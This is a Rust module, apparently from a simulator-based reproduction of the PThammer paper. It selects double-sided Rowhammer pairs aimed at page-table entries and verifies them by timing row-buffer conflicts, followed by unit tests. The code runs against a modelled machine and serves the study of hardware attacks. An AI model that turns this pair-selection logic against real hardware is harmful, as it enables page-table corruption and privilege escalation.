//! Double-sided hammer-pair selection (Section IV-D of the paper).
//!
//! To hammer double-sided, the attacker needs two virtual addresses whose
//! Level-1 PTEs sit in the same DRAM bank, exactly two rows apart. It cannot
//! see physical addresses, so it uses two facts:
//!
//! 1. The buddy allocator hands out (mostly) consecutive frames, so the
//!    L1PTEs of two sprayed addresses that are `2 × RowSize × 512` bytes of
//!    virtual address apart are very likely two rows apart physically.
//! 2. Two DRAM accesses to different rows of the *same* bank suffer a
//!    row-buffer conflict, which is measurably slower than accesses to
//!    different banks — so candidate pairs can be verified by timing.

use rand::rngs::StdRng;
use rand::Rng;
use serde::Serialize;

use pthammer_kernel::{Pid, System};
use pthammer_types::{VirtAddr, HUGE_PAGE_SIZE, PAGE_SIZE, PTES_PER_TABLE};

use crate::error::AttackError;
use crate::eviction::llc::SelectedEvictionSet;
use crate::eviction::tlb::TlbEvictionSet;
use crate::spray::SprayRegion;

/// A candidate double-sided hammer pair.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize)]
pub struct HammerPair {
    /// Lower virtual address (its L1PTE is the aggressor row below the victim).
    pub low: VirtAddr,
    /// Upper virtual address (`low + pair_stride`).
    pub high: VirtAddr,
}

impl HammerPair {
    /// The virtual-address range to scan for corrupted mappings after
    /// hammering. One DRAM row of Level-1 page-table frames describes
    /// `row_span / 4 KiB × 2 MiB` of virtual address space; the victim row's
    /// block starts somewhere within one such span above `low`, so scanning
    /// two spans starting at `low`'s chunk always covers it (at the cost of
    /// re-reading `low`'s own block, which is harmless).
    pub fn victim_va_range(&self, row_span_bytes: u64) -> (VirtAddr, VirtAddr) {
        let va_per_row = row_span_bytes / PAGE_SIZE * HUGE_PAGE_SIZE;
        let start = self.low.huge_page_base();
        (start, start + 2 * va_per_row)
    }
}

/// The virtual-address stride between the two members of a hammer pair:
/// `2 × RowSize × 512` (256 MiB on the paper's machines). `RowSize` — the
/// number of bytes of physical address space per DRAM row index — is public
/// knowledge for a given platform (reverse engineered by DRAMA).
pub fn pair_stride(row_span_bytes: u64) -> u64 {
    2 * row_span_bytes * PTES_PER_TABLE
}

/// Generates candidate pairs inside the spray region. Targets are page
/// aligned, avoid Level-1 index zero (so the L1PTE's page offset differs from
/// the target's own page offset, as required by Algorithm 2) and avoid the
/// first chunk of the region.
pub fn candidate_pairs(
    spray: &SprayRegion,
    row_span_bytes: u64,
    count: usize,
    rng: &mut StdRng,
) -> Vec<HammerPair> {
    let stride = pair_stride(row_span_bytes);
    if spray.len < stride + 2 * HUGE_PAGE_SIZE {
        return Vec::new();
    }
    let max_low_offset = spray.len - stride - HUGE_PAGE_SIZE;
    let mut pairs = Vec::with_capacity(count);
    for _ in 0..count * 4 {
        if pairs.len() >= count {
            break;
        }
        // Random 2 MiB chunk, then a random non-zero L1 index within it.
        let chunk = rng.gen_range(0..=max_low_offset / HUGE_PAGE_SIZE);
        let l1_index = rng.gen_range(1..PTES_PER_TABLE);
        let low = spray.base + chunk * HUGE_PAGE_SIZE + l1_index * PAGE_SIZE;
        let high = low + stride;
        let pair = HammerPair { low, high };
        if spray.contains(high) && !pairs.contains(&pair) {
            pairs.push(pair);
        }
    }
    pairs
}

/// Result of the timing-based same-bank verification of one pair.
#[derive(Debug, Clone, Copy, PartialEq, Serialize)]
pub struct PairVerification {
    /// The pair that was probed.
    pub pair: HammerPair,
    /// Median latency of the second (high) access across the probe rounds.
    pub median_high_latency: u64,
    /// Whether the pair was classified as same-bank (row-buffer conflict).
    pub same_bank: bool,
}

/// Probes a pair by flushing both targets' TLB entries and L1PTE cache lines
/// and then accessing the two targets back to back; if their L1PTEs share a
/// bank, the second access pays a row-buffer conflict and is slower than the
/// `conflict_threshold`.
#[allow(clippy::too_many_arguments)]
pub fn verify_same_bank(
    sys: &mut System,
    pid: Pid,
    pair: HammerPair,
    tlb_low: &TlbEvictionSet,
    tlb_high: &TlbEvictionSet,
    llc_low: &SelectedEvictionSet,
    llc_high: &SelectedEvictionSet,
    conflict_threshold: u64,
    rounds: usize,
) -> Result<PairVerification, AttackError> {
    let mut latencies = Vec::with_capacity(rounds);
    for _ in 0..rounds {
        llc_low.evict(sys, pid)?;
        llc_high.evict(sys, pid)?;
        tlb_low.evict(sys, pid)?;
        tlb_high.evict(sys, pid)?;
        sys.access(pid, pair.low)?;
        let high = sys.access(pid, pair.high)?;
        latencies.push(high.latency.as_u64());
    }
    latencies.sort_unstable();
    let median_high_latency = latencies[latencies.len() / 2];
    Ok(PairVerification {
        pair,
        median_high_latency,
        same_bank: median_high_latency >= conflict_threshold,
    })
}

/// Derives the row-buffer-conflict latency threshold from the machine's
/// public DRAM timing characteristics: halfway between a row miss and a row
/// conflict on top of the translation + lookup path. In a real attack this is
/// calibrated by timing accesses to known same-bank/different-bank addresses;
/// the resulting number is the same.
pub fn conflict_threshold(sys: &System) -> u64 {
    let timings = sys.machine().config().dram.timings;
    let caches = &sys.machine().config().cache;
    let base = u64::from(caches.l1d.latency + caches.l2.latency + caches.llc.latency);
    let miss = u64::from(timings.cas + timings.rcd);
    let conflict = u64::from(timings.cas + timings.rcd + timings.rp);
    // Translation walk + data access both reach DRAM in the probe, so the
    // distinguishing term shows up once; place the threshold between the two.
    base + (miss + conflict) / 2
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::spray::SPRAY_PATTERN;
    use rand::SeedableRng;

    fn spray() -> SprayRegion {
        SprayRegion {
            base: VirtAddr::new(0x4000_0000),
            len: 768 << 20,
            pattern: SPRAY_PATTERN,
            user_page: VirtAddr::new(0x1000),
        }
    }

    #[test]
    fn stride_matches_paper_for_8gib_geometry() {
        // 256 KiB row span -> 256 MiB stride, as stated in the paper.
        assert_eq!(pair_stride(256 * 1024), 256 << 20);
        // The small test machine has a 128 KiB row span -> 128 MiB stride.
        assert_eq!(pair_stride(128 * 1024), 128 << 20);
    }

    #[test]
    fn candidates_lie_in_region_and_avoid_index_zero() {
        let spray = spray();
        let mut rng = StdRng::seed_from_u64(7);
        let pairs = candidate_pairs(&spray, 128 * 1024, 16, &mut rng);
        assert!(!pairs.is_empty());
        for pair in &pairs {
            assert!(spray.contains(pair.low));
            assert!(spray.contains(pair.high));
            assert_eq!(pair.high - pair.low, pair_stride(128 * 1024));
            assert!(pair.low.is_page_aligned());
            assert_ne!(pair.low.pt_index(1), 0, "L1 index zero must be avoided");
        }
        // Deterministic for a fixed seed.
        let mut rng2 = StdRng::seed_from_u64(7);
        assert_eq!(pairs, candidate_pairs(&spray, 128 * 1024, 16, &mut rng2));
    }

    #[test]
    fn candidates_empty_when_spray_too_small() {
        let small = SprayRegion {
            len: 64 << 20,
            ..spray()
        };
        let mut rng = StdRng::seed_from_u64(7);
        assert!(candidate_pairs(&small, 128 * 1024, 8, &mut rng).is_empty());
    }

    #[test]
    fn victim_range_covers_the_row_between_the_pair() {
        let pair = HammerPair {
            low: VirtAddr::new(0x4000_0000 + 5 * PAGE_SIZE),
            high: VirtAddr::new(0x4000_0000 + 5 * PAGE_SIZE + pair_stride(128 * 1024)),
        };
        let row_span = 128 * 1024u64;
        let va_per_row = row_span / PAGE_SIZE * HUGE_PAGE_SIZE;
        let (start, end) = pair.victim_va_range(row_span);
        assert_eq!(start, pair.low.huge_page_base());
        assert_eq!(end - start, 2 * va_per_row);
        // The scan range stays below the upper aggressor's chunk end and, in
        // particular, always contains the VA block one row of L1PTs above the
        // block containing `low` — wherever that block boundary falls.
        assert!(end <= pair.high.huge_page_base() + HUGE_PAGE_SIZE);
        assert!(start + va_per_row > pair.low);
    }
}
